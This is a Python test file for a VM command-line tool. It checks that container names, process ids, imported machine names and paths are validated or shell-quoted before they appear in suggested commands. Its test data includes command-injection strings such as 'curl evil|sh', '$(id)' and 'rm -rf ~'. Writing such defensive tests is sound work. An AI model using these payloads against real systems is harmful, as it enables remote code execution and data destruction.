"""Names given by a guest, a foreign file or a path never become part of a command that a user pastes."""

import shlex
from pathlib import Path

import pytest

from b2d.drivers.qemu import shared_folders
from b2d.errors import B2dError, InvalidStateError
from b2d.guest.transfer import copy_endpoints, tar_extract
from b2d.importing.candidates import ImportCandidate, require_off
from b2d.models import MachineState
from b2d.paths import MachinePaths
from tests.support.serial_peer import guest

EVIL = "1;curl evil|sh;x $(id) `id`\nrm -rf ~"


def unmount_error(folder: Path, *lines: str) -> InvalidStateError:
    paths = MachinePaths(folder)
    answer = [f"{line}\n".encode() for line in (*lines, "folders let-go")]
    with guest(paths.line_socket, answer), pytest.raises(InvalidStateError) as caught:
        shared_folders.unmount(paths, "box")
    return caught.value


@pytest.mark.parametrize(
    ("line", "hint"),
    [
        ("held program 1;curl${IFS}evil|sh; x", "b2d stop --vm box"),
        ("held program $(id) x", "b2d stop --vm box"),
        ("held program -1 x", "b2d stop --vm box"),
        ("held program \u0661\u0662 x", "b2d stop --vm box"),
        ("held program 12345678901 x", "b2d stop --vm box"),
        ("held program 12 x;id", "b2d ssh --vm box -- sudo kill 12 && b2d save --vm box, or b2d stop --vm box"),
        ("held container --help", "b2d stop --vm box"),
        ("held container a;id", "b2d stop --vm box"),
        ("held container $(id)", "b2d stop --vm box"),
        ("held container " + "a" * 300, "b2d stop --vm box"),
        ("held container web.1_a-b", "docker stop web.1_a-b && b2d save --vm box, or b2d stop --vm box"),
    ],
)
def test_a_hint_contains_only_pids_and_names_of_containers(tmp_path: Path, line: str, hint: str) -> None:
    assert unmount_error(tmp_path, line).hint == hint


def test_valid_names_are_in_the_hint_and_invalid_ones_are_not(tmp_path: Path) -> None:
    error = unmount_error(
        tmp_path, "held container web", "held container x;id", "held program 7 a", "held program 8;id b"
    )
    kill = "b2d ssh --vm box -- sudo kill 7"
    assert error.hint == f"docker stop web && {kill} && b2d save --vm box, or b2d stop --vm box"


def test_a_long_list_of_programs_is_cut(tmp_path: Path) -> None:
    error = unmount_error(tmp_path, *(f"held program {pid} x" for pid in range(1, 1000)))
    assert error.message.endswith("979 more") and len(error.message) < 1000 and len(error.hint) < 1000


def test_an_incomplete_line_is_not_a_bug(tmp_path: Path) -> None:
    assert unmount_error(tmp_path, "held ", "held program", "held container web").hint.startswith("docker stop web &&")


@pytest.mark.parametrize("state", [MachineState.SAVED, MachineState.RUNNING])
def test_a_name_from_a_settings_file_is_quoted_as_one_word(state: MachineState) -> None:
    with pytest.raises(InvalidStateError) as caught:
        require_off(ImportCandidate(EVIL, Path("x.vmdk"), state=state))
    assert EVIL in shlex.split(caught.value.hint.partition(", then")[0])


def test_a_missing_folder_is_quoted_as_one_word(tmp_path: Path) -> None:
    with pytest.raises(B2dError) as caught:
        tar_extract.final_path(f"{tmp_path}/a b;id/x", "x", many=False)
    assert shlex.split(caught.value.hint) == ["mkdir", "-p", f"{tmp_path}/a b;id"]


def test_an_invalid_endpoint_is_quoted_as_one_word() -> None:
    with pytest.raises(B2dError) as caught:
        copy_endpoints.parse_endpoint("a b;id:x")
    assert shlex.split(caught.value.hint.partition(" for ")[0]) == ["./a b;id:x"]
